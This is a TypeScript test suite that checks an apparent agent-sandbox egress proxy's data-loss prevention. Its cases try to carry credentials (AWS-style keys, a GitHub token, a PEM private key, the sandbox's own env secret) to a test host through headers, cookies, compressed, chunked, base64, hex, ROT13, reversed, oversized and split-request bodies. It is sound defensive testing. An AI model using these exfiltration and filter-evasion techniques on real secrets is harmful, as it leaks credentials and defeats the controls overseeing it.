/**
 * DLP: a credential (a fresh AWS-style key id, or the bottle's own secret)
 * carried out to an allowed host in every place and encoding the proxy
 * claims to read. The last cases are the ones pattern matching cannot catch
 * (README, threat model): they are here so the table says so plainly.
 */
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { escaped, stopped, type EscapeCase, type Outcome } from '../suite.js';
import type { World } from '../world.js';
import { refused } from './proxy.js';
import { zstdStored } from '../../zstd-frame.js';

/** A request to the DLP-blocking route that carries `secret`; stopped if refused and never seen upstream. */
export async function carry(w: World, secret: string, args: (url: string) => string, statuses: readonly number[] = [403]): Promise<Outcome> {
  const a = await w.curl(args(w.url('api.test', '/v1/dlp')));
  return refused(w, a, secret, statuses);
}

/** A body the agent writes to a file first (binary, through base64). */
export async function withFile(w: World, name: string, data: Buffer): Promise<void> {
  const r = await w.sh(`base64 -d > /tmp/${name}`, data.toString('base64'));
  if (r.code !== 0) throw new Error(`cannot write /tmp/${name}: ${r.stderr}`);
}

function dlpCase(id: string, attack: string, run: (w: World, key: string) => Promise<Outcome>): EscapeCase {
  return { id: `dlp/${id}`, category: 'dlp', attack, expect: 'stopped', run: (w) => run(w, w.marker()) };
}

export const dlpCases: EscapeCase[] = [
  dlpCase('query', 'an AWS key id in the query string', (w, k) => carry(w, k, (u) => `'${u}?k=${k}'`)),
  dlpCase('path', 'an AWS key id as a path segment', (w, k) => carry(w, k, (u) => `'${u}/${k}'`)),
  dlpCase('header', 'an AWS key id in a custom header', (w, k) => carry(w, k, (u) => `-H 'X-Debug: ${k}' ${u}`)),
  dlpCase('cookie', 'an AWS key id in a cookie', (w, k) => carry(w, k, (u) => `-b 'session=${k}' ${u}`)),
  dlpCase('user-agent', 'an AWS key id in User-Agent', (w, k) => carry(w, k, (u) => `-A 'agent/${k}' ${u}`)),
  dlpCase('json-unicode-escape', 'a key in JSON with its letters as \\u escapes', (w, k) =>
    carry(w, k, (u) => `-X POST -H 'content-type: application/json' --data-binary '{"k":"\\u0041\\u004b${k.slice(2)}"}' ${u}`),
  ),
  dlpCase('form-urlencoded', 'a key in a urlencoded form, percent-encoded', (w, k) => carry(w, k, (u) => `-X POST --data-binary 'k=%41%4B${k.slice(2)}' ${u}`)),
  dlpCase('multipart', 'a key in a multipart file upload', (w, k) => carry(w, k, (u) => `-F 'file=@-;filename=creds.txt' ${u} <<< 'aws=${k}'`)),
  dlpCase('gzip-body', 'a gzip-compressed body (Content-Encoding: gzip)', async (w, k) => {
    await withFile(w, 'b.gz', gzipSync(`{"key":"${k}"}`));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: gzip' --data-binary @/tmp/b.gz ${u}`);
  }),
  dlpCase('deflate-body', 'a deflate-compressed body', async (w, k) => {
    await withFile(w, 'b.zz', deflateSync(`key=${k}`));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: deflate' --data-binary @/tmp/b.zz ${u}`);
  }),
  dlpCase('brotli-body', 'a brotli-compressed body', async (w, k) => {
    await withFile(w, 'b.br', brotliCompressSync(`key=${k}`));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: br' --data-binary @/tmp/b.br ${u}`);
  }),
  dlpCase('double-gzip', 'a body compressed twice (Content-Encoding: gzip, gzip)', async (w, k) => {
    await withFile(w, 'b2.gz', gzipSync(gzipSync(`key=${k}`)));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: gzip, gzip' --data-binary @/tmp/b2.gz ${u}`, [403, 415]);
  }),
  dlpCase('chunked', 'a chunked upload with the key split across chunks', async (w, k) => {
    const m = k;
    const half = m.slice(0, 10);
    const rest = m.slice(10);
    const r = await w.raw('api.test', `POST /v1/dlp HTTP/1.1\r\nHost: api.test:${w.up.port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${(half.length + 2).toString(16)}\r\nk=${half}\r\n${rest.length.toString(16)}\r\n${rest}\r\n0\r\n\r\n`);
    const status = Number(/HTTP\/1\.1 (\d+)/.exec(r.stdout)?.[1] ?? 0);
    return refused(w, { status, reason: '', headers: '', body: '' }, m);
  }),
  dlpCase('zstd-body', 'a zstd-compressed body (stored blocks: the key is in the clear inside the frame)', async (w, k) => {
    await withFile(w, 'b.zst', zstdStored(`key=${k}`));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: zstd' --data-binary @/tmp/b.zst ${u}`);
  }),
  dlpCase('unscannable-encoding', 'a Content-Encoding the proxy cannot decode (compress), hoping it passes unread', async (w, k) => {
    await withFile(w, 'b.Z', Buffer.from(`key=${k}`));
    return carry(w, k, (u) => `-X POST -H 'content-encoding: compress' --data-binary @/tmp/b.Z ${u}`, [415, 403]);
  }),
  dlpCase('oversized-body', 'a body larger than the scan buffer, with the key at the end', async (w, k) => {
    const r = await w.sh(`head -c 12000000 /dev/zero | tr '\\0' a > /tmp/big && echo ${k} >> /tmp/big`);
    if (r.code !== 0) throw new Error(r.stderr);
    return carry(w, k, (u) => `-X POST --data-binary @/tmp/big ${u}`, [413, 403]);
  }),
  dlpCase('github-token', 'a GitHub personal access token in a JSON body', async (w) => {
    const t = `ghp_${w.marker().slice(4)}${w.marker().slice(4, 20)}`;
    return carry(w, t, (u) => `-X POST -H 'content-type: application/json' --data-binary '{"token":"${t}"}' ${u}`);
  }),
  dlpCase('private-key', 'a PEM private key in the body', async (w) => {
    const { generateKeyPairSync } = await import('node:crypto');
    const pem = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    await withFile(w, 'key.pem', Buffer.from(pem));
    const inner = pem.split('\n')[1] ?? '';
    return carry(w, inner, (u) => `-X POST --data-binary @/tmp/key.pem ${u}`);
  }),
  dlpCase('known-secret-raw', "the bottle's own secret (forwarded env) in the body", async (w) => carry(w, w.known, (u) => `-X POST --data-binary "x=$KNOWN_SECRET" ${u}`)),
  dlpCase('known-secret-base64', "the bottle's own secret, base64", async (w) => {
    const b64 = Buffer.from(w.known).toString('base64');
    const o = await carry(w, b64, (u) => `-X POST --data-binary "x=$(printf %s "$KNOWN_SECRET" | base64 -w0)" ${u}`);
    return w.leaked(w.known) ? escaped('the raw secret arrived') : o;
  }),
  dlpCase('known-secret-hex', "the bottle's own secret, hex", async (w) => {
    const hex = Buffer.from(w.known).toString('hex');
    return carry(w, hex, (u) => `-X POST --data-binary "x=$(printf %s "$KNOWN_SECRET" | od -An -tx1 | tr -d ' \\n')" ${u}`);
  }),
  dlpCase('known-secret-url-encoded', "the bottle's own secret, percent-encoded in the query", async (w) => {
    const enc = [...Buffer.from(w.known)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
    return carry(w, w.known, (u) => `'${u}?x=${enc}'`);
  }),
  {
    id: 'dlp/reversed-key',
    category: 'dlp',
    attack: 'the key reversed (the egress turns key-shaped tokens around)',
    expect: 'stopped',
    async run(w) {
      const k = w.marker();
      const rev = [...k].reverse().join('');
      await w.curl(`-X POST --data-binary 'x=${rev}' ${w.url('api.test', '/v1/rev')}`);
      return w.leaked(rev) ? escaped('arrived reversed') : stopped('refused');
    },
  },
  {
    id: 'dlp/rot13-key',
    category: 'dlp',
    attack: 'the key in ROT13 (the egress rotates key-shaped tokens back)',
    expect: 'stopped',
    async run(w) {
      const k = w.marker();
      const rot = k.replace(/[A-Z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 65 + 13) % 26) + 65));
      await w.curl(`-X POST --data-binary 'x=${rot}' ${w.url('api.test', '/v1/rot')}`);
      return w.leaked(rot) ? escaped('arrived in ROT13') : stopped('refused');
    },
  },
  {
    id: 'dlp/out-of-reach-split-requests',
    category: 'dlp',
    attack: 'the key split across two requests',
    expect: 'out-of-reach',
    async run(w) {
      const k = w.marker();
      await w.curl(`-X POST --data-binary 'a=${k.slice(0, 10)}' ${w.url('api.test', '/v1/p1')}`);
      await w.curl(`-X POST --data-binary 'b=${k.slice(10)}' ${w.url('api.test', '/v1/p2')}`);
      return w.leaked(k.slice(0, 10)) && w.leaked(k.slice(10)) ? escaped('both halves arrived') : stopped('refused');
    },
  },
  {
    id: 'dlp/out-of-reach-plain-data',
    category: 'dlp',
    attack: 'workspace data that does not look like a credential, posted to an allowed host',
    expect: 'out-of-reach',
    async run(w) {
      const m = `customer-list-${w.marker().toLowerCase()}`;
      await w.curl(`-X POST --data-binary 'rows=alice,bob,${m}' ${w.url('api.test', '/v1/data')}`);
      return w.leaked(m) ? escaped('arrived: only the route decides where data may go') : stopped('refused');
    },
  },
];
